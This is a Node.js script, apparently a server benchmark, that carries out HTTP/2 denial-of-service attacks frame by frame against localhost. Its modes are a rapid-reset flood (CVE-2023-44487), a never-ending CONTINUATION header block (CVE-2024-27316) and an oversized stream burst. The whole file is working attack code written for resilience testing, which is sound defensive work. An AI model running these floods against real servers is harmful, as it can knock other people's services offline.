// HTTP/2 attacks written frame by frame over TLS (ALPN h2), as no well-behaved client would:
//   node bench/attacks/h2.mjs rapid-reset  PORT CONNECTIONS SECONDS
//       each connection opens streams and resets them at once (CVE-2023-44487), as fast as the
//       socket takes them, reconnecting whenever the server closes it
//   node bench/attacks/h2.mjs continuation PORT CONNECTIONS SECONDS
//       each connection opens one stream whose header block never ends: CONTINUATION frames
//       without END_HEADERS, for as long as the server keeps reading (CVE-2024-27316 and kin)
//   node bench/attacks/h2.mjs burst PORT
//       one connection opens 200 streams at once on a server that advertised fewer; prints
//       how many were answered and refused (REFUSED_STREAM) and whether the connection lives on
// Prints one JSON line of counts at the end.
import tls from 'node:tls'

const [mode, port, connections = '1', seconds = '0'] = process.argv.slice(2)
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
const HEADERS = 1
const RST_STREAM = 3
const SETTINGS = 4
const GOAWAY = 7
const CONTINUATION = 9

function frame(type, flags, stream, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = type
  head[4] = flags
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}
const AUTHORITY = Buffer.from('localhost')
/** :method GET, :scheme https, :path /, :authority localhost (HPACK, no dynamic table). */
const BLOCK = Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x01, AUTHORITY.length]), AUTHORITY])
const rst = (stream) => frame(RST_STREAM, 0, stream, Buffer.from([0, 0, 0, 8])) // CANCEL

/** A TLS h2 connection: `onFrame(type, flags, stream, payload)`; SETTINGS acknowledged. */
function connect(onFrame) {
  const socket = tls.connect({ port: Number(port), host: '127.0.0.1', ALPNProtocols: ['h2'], rejectUnauthorized: false, servername: 'localhost' })
  let buffered = Buffer.alloc(0)
  socket.on('data', (chunk) => {
    buffered = Buffer.concat([buffered, chunk])
    while (buffered.length >= 9) {
      const length = buffered.readUIntBE(0, 3)
      if (buffered.length < 9 + length) break
      const [type, flags, stream] = [buffered[3], buffered[4], buffered.readUInt32BE(5) & 0x7fffffff]
      const payload = buffered.subarray(9, 9 + length)
      buffered = buffered.subarray(9 + length)
      if (type === SETTINGS && !(flags & 1)) socket.write(frame(SETTINGS, 1, 0))
      onFrame?.(type, flags, stream, payload)
    }
  })
  socket.on('error', () => {})
  socket.once('secureConnect', () => socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0)])))
  return socket
}

const counts = { connections: 0, streams: 0, goaway: {}, closedByServer: 0 }
const end = Date.now() + Number(seconds) * 1000

/** Keeps `n` attacking connections open until the end, each driven by `attack(socket)`. */
function flood(n, attack) {
  return Promise.all(
    Array.from({ length: n }, async () => {
      while (Date.now() < end) {
        counts.connections++
        await new Promise((resolve) => {
          const socket = connect((type, _flags, _stream, payload) => {
            if (type === GOAWAY) counts.goaway[payload.readUInt32BE(4)] = (counts.goaway[payload.readUInt32BE(4)] ?? 0) + 1
          })
          const stop = setTimeout(() => socket.destroy(), Math.max(0, end - Date.now()))
          socket.once('close', () => {
            clearTimeout(stop)
            if (Date.now() < end) counts.closedByServer++
            setTimeout(resolve, 10)
          })
          socket.once('secureConnect', () => attack(socket))
        })
      }
    }),
  )
}

if (mode === 'rapid-reset') {
  await flood(Number(connections), (socket) => {
    let stream = 1
    const more = () => {
      if (socket.destroyed || Date.now() >= end) return
      const batch = []
      for (let i = 0; i < 100 && stream < 2 ** 31 - 2; i++, stream += 2) batch.push(frame(HEADERS, 0x4 | 0x1, stream, BLOCK), rst(stream))
      counts.streams += batch.length / 2
      if (socket.write(Buffer.concat(batch))) setImmediate(more)
      else socket.once('drain', more)
    }
    more()
  })
} else if (mode === 'continuation') {
  const junk = Buffer.concat(Array.from({ length: 200 }, (_, i) => Buffer.concat([Buffer.from([0x00, 0x05]), Buffer.from('x-abc'), Buffer.from([0x7f, 0x00]), Buffer.alloc(127, 97 + (i % 26))])))
  await flood(Number(connections), (socket) => {
    socket.write(frame(HEADERS, 0, 1, BLOCK)) // no END_HEADERS: the block goes on...
    const more = () => {
      if (socket.destroyed || Date.now() >= end) return
      counts.streams++
      if (socket.write(frame(CONTINUATION, 0, 1, junk))) setImmediate(more) // ...and never ends
      else socket.once('drain', more)
    }
    more()
  })
} else if (mode === 'burst') {
  const result = await new Promise((resolve) => {
    const got = { answered: 0, refused: 0, otherResets: 0, goaway: null }
    let settled = false
    const socket = connect((type, flags, stream, payload) => {
      if (type === SETTINGS && !(flags & 1) && !settled) {
        settled = true
        const frames = []
        for (let i = 0; i < 200; i++) frames.push(frame(HEADERS, 0x4 | 0x1, 1 + 2 * i, BLOCK))
        socket.write(Buffer.concat(frames))
        setTimeout(() => {
          // one more stream after the burst: does the connection still serve?
          socket.write(frame(HEADERS, 0x4 | 0x1, 401, BLOCK))
          setTimeout(() => resolve({ ...got, alive: !socket.destroyed }), 1000)
        }, 2000)
      }
      if (type === HEADERS && stream > 0) got.answered++
      if (type === RST_STREAM) payload.readUInt32BE(0) === 7 ? got.refused++ : got.otherResets++
      if (type === GOAWAY) got.goaway = payload.readUInt32BE(4)
    })
  })
  Object.assign(counts, result)
  counts.streams = 201
} else {
  console.error(`unknown mode ${mode}: rapid-reset, continuation or burst`)
  process.exit(2)
}
console.log(JSON.stringify(counts))
process.exit(0)
